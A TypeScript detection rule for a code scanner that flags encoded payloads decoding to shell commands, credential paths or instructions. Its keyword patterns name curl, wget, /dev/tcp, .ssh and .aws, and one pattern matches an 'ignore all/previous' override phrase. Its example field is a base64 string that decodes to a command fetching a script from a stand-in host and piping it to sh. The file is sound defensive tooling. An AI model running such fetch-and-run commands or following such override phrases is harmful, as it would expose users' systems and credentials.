import type { Rule, RuleHit } from '../rule.types';

const CODEISH_RE =
  /\b(?:curl|wget|bash|sh -c|powershell|iex|import\s+\w|exec|eval|subprocess|os\.system|child_process|require\(|urlopen|socket|chmod|rm -rf|nc\s|base64|https?:\/\/|\/dev\/tcp|\.ssh|\.aws|\.env\b|credentials|password|token|ignore|instructions?|assistant|send|upload)\b/i;
/** An XML namespace declaration names a vocabulary; its URI is never fetched (an SVG icon's `xmlns="http://www.w3.org/2000/svg"`). */
const XML_NAMESPACE_RE = /\bxmlns(?::[\w-]{1,30})?\s{0,2}=\s{0,2}(?:"[^"\n]{0,200}"|'[^'\n]{0,200}')/g;
const ROT13_HINT_RE = /\b(?:rot-?13|rot_13|caesar(?:\s+cipher)?)\b/i;

/** Encoded text that decodes to commands, URLs or instructions. */
export const obEncodedPayloadRule: Rule = {
  meta: {
    id: 'BW-OBF-002',
    title: 'Encoded payload hides commands or instructions',
    category: 'obfuscation',
    severity: 'high',
    confidence: 'high',
    asset_type: 'hidden_text',
    shows_intent: true,
    rationale:
      'Base64/base32/hex/URL/entity/escape/char-code/ROT13 encodings that decode to shell commands, URLs, credential paths or instructions exist to get past reviewers and keyword scanners. Decoded to a bounded depth; random blobs and hashes do not decode to text and stay silent.',
    example: 'echo Y3VybCAtcyBodHRwczovL3gudGVzdC9wIHwgc2g= | base64 -d',
  },
  regexes: [CODEISH_RE, ROT13_HINT_RE, XML_NAMESPACE_RE],
  match(ctx) {
    const hits: RuleHit[] = [];
    const view = ctx.views.decoded;
    if (view) {
      for (const [line, source] of view.sources) {
        if (hits.length >= 25) break;
        const text = view.text.slice(view.lineStarts[line - 1], (view.lineStarts[line] ?? view.text.length + 1) - 1);
        if (source === 'concat' || source === 'url_encoding' || source === 'html_entity') {
          // Common in ordinary code/URLs: only when the decoded text is clearly operative.
          if (!/\b(?:curl|wget|bash|sh -c|powershell|iex|exec|eval|\/dev\/tcp|\.ssh|\.aws|ignore (?:all|previous))\b/i.test(text)) continue;
        } else if (!CODEISH_RE.test(text.replace(XML_NAMESPACE_RE, ' '))) continue;
        const encoded = ctx.views.decodedFrom.get(line) ?? '';
        hits.push({ line, evidence: `${encoded.slice(0, 60)} → ${text}`, source });
      }
    }
    const decodedLines = new Set(hits.map((h) => h.line));
    for (let i = 0; i < ctx.lines.length; i++) {
      if (ROT13_HINT_RE.test(ctx.lines[i]) && /\b(?:apply|decode|follow|execute|run)\b/i.test(ctx.lines[i]) && !decodedLines.has(i + 1)) {
        hits.push({ line: i + 1, evidence: ctx.lines[i], source: 'rot13', severity: 'medium' });
      }
    }
    return hits;
  },
};
